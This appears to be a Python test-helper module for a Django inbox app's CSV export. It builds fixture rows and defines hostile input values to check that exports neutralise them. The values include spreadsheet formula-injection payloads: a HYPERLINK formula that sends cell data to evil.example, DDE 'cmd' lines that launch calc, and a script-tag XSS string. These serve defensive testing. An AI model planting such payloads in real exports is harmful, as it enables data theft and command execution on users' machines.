"""Helpers the export tests share: mirror rows made directly, and reading a CSV response back."""

from __future__ import annotations

import csv
import datetime as dt
import io
import random

from inbox.models import CoworkerMessage, EmailAccount

BASE_TIME = dt.datetime(2026, 11, 1, 9, 0, tzinfo=dt.UTC)

# Values that break naive exports: formula starters (OWASP's list and the full-width forms),
# RFC 4180's specials, control characters, non-Latin text, emoji, HTML.
HOSTILE = {
    "formula": "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")",
    "plus": "+1+cmd|' /C calc'!A0",
    "minus": "-5 apples",
    "minus_number": "-5",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "tab": "\t=1+1",
    "cr": "\r=1+1",
    "fullwidth": "＝1+1",
    "nul_then_formula": "\x00=1+1",
    "quotes": 'She said "hi", then left',
    "comma": "a,b,c",
    "newlines": "line one\nline two\r\nline three\rline four",
    "latin": "Zoë Ünal — café",
    "cyrillic": "Привет, мир",
    "cjk": "日本語のメール 你好",
    "arabic": "مرحبا بالعالم",
    "emoji": "Thanks 👍🏽 🎉 👨‍👩‍👧",
    "html": "<script>alert(1)</script><b onclick=\"x()\">bold</b>",
    "controls": "bell\x07 vt\x0b ff\x0c esc\x1b del\x7f end",
}


def storable(values: dict[str, str]) -> dict[str, str]:
    """The values this database can hold: PostgreSQL text never holds NUL (the writer's own
    tests cover NULs without a database)."""
    from django.db import connection

    if connection.vendor == "postgresql":
        return {k: v for k, v in values.items() if "\x00" not in v}
    return values


def expected_text(value: str) -> str:
    """What a hostile value must read back as from the CSV."""
    cleaned = "".join(c for c in value if c in "\t\n\r" or not (ord(c) < 32 or ord(c) == 127))
    if cleaned and cleaned[0] in "=+-@\t\r＝＋－＠":
        return "'" + cleaned
    return cleaned


def make_account(pk: int, **fields) -> EmailAccount:
    defaults = dict(display_name=f"Account {pk}", email_address=f"box{pk}@example.com", active=True)
    return EmailAccount.objects.create(pk=pk, **{**defaults, **fields})


def make_message(pk: int, **fields) -> CoworkerMessage:
    defaults = dict(
        created_on=BASE_TIME + dt.timedelta(minutes=pk),
        updated_on=BASE_TIME + dt.timedelta(minutes=pk, seconds=30),
        incoming=True,
        is_new_message=False,
        coworker_id=1000 + pk % 7,
        coworker_full_name=f"Customer {pk % 7}",
        coworker_email=f"c{pk % 7}@example.com",
        subject=f"Subject {pk}",
        body_text=f"Body {pk}",
        body=f"<p>Body {pk}</p>",
    )
    return CoworkerMessage.objects.create(pk=pk, **{**defaults, **fields})


def make_mixed_messages(n: int, *, seed: int = 7, accounts=(11, 12, None)) -> list[CoworkerMessage]:
    """``n`` messages over accounts, customers, directions, unread flags and a few words to search,
    with many sharing a creation time (so the id tie-break of the order matters)."""
    rng = random.Random(seed)
    words = ["invoice", "booking", "wifi", "parking", "printer"]
    rows = []
    for pk in range(1, n + 1):
        account = rng.choice(accounts)
        rows.append(
            CoworkerMessage(
                pk=pk,
                # Groups of messages share a minute, and ids don't follow time.
                created_on=BASE_TIME + dt.timedelta(days=rng.randrange(20), minutes=rng.randrange(3)),
                updated_on=BASE_TIME + dt.timedelta(days=21),
                incoming=rng.random() < 0.6,
                is_new_message=rng.random() < 0.4,
                coworker_id=100 + rng.randrange(6),
                coworker_full_name=f"Customer {rng.randrange(6)}",
                email_account_id=account,
                email_account_display_name=f"Account {account}" if account else None,
                subject=f"About the {rng.choice(words)}",
                body_text=f"Hello, the {rng.choice(words)} again.",
                deleted_at=BASE_TIME if rng.random() < 0.05 else None,
            )
        )
    return CoworkerMessage.objects.bulk_create(rows)


def read_csv(content: bytes) -> list[list[str]]:
    assert content.startswith(b"\xef\xbb\xbf"), "the export must start with a UTF-8 byte-order mark"
    return list(csv.reader(io.StringIO(content[3:].decode("utf-8"), newline="")))


def response_bytes(response) -> bytes:
    return b"".join(response.streaming_content)
